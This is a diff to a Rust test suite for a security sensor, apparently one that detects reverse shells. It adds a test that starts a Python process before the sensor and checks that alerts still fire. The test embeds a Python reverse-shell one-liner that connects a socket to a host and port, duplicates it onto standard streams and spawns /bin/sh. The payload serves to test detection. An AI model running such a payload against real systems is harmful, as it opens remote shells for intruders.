@@ -4,13 +4,14 @@ use std::{
     io::{BufRead, BufReader},
     net::{SocketAddr, TcpStream},
     process::{Child, Command, Stdio},
+    time::Duration,
 };
 
 use sentinel_tests::{
     bed::Bed,
     peer::{Peer, Shell},
     programs::compiled,
-    sentinel::{Sentinel, start_ticks},
+    sentinel::{Sentinel, start_ticks, within},
 };
 use serde_json::Value;
 
@@ -313,4 +314,24 @@ fn c_with_32_bit_calls() {
 #[test]
 fn c_with_32_bit_socketcalls() {
     attack("127.0.0.1", Culprit::Shell, program("int80_socketcall", "4"));
+}
+
+#[test]
+fn python_that_ran_before_the_sensor() {
+    let code = "import os,pty,socket,sys\nopen(sys.argv[1]).read()\n\
+                s=socket.create_connection(('HOST',PORT))\nfor i in \
+                range(3): os.dup2(s.fileno(),i)\npty.spawn('/bin/sh')";
+    let Some(bed) = Bed::new() else { return };
+    let go = bed.path("go");
+    nix::unistd::mkfifo(&go, nix::sys::stat::Mode::S_IRWXU).unwrap();
+    let peer = Peer::listen("127.0.0.1");
+    let mut command = script("python3", "-c", code)(&bed, peer.address());
+    let mut child = spawn(command.arg(&go));
+    let started = || std::fs::read_to_string(format!("/proc/{}/comm", child.id()));
+    assert!(within(Duration::from_secs(10), || started().is_ok_and(|comm| comm != "sh\n")));
+    let sentinel = Sentinel::start(&bed, &[]);
+    std::fs::write(&go, "go").unwrap();
+    let expected = talk(peer.shell(), &child, Culprit::Started);
+    child.wait().unwrap();
+    check(sentinel.stop().alerts, expected, peer.address());
 }
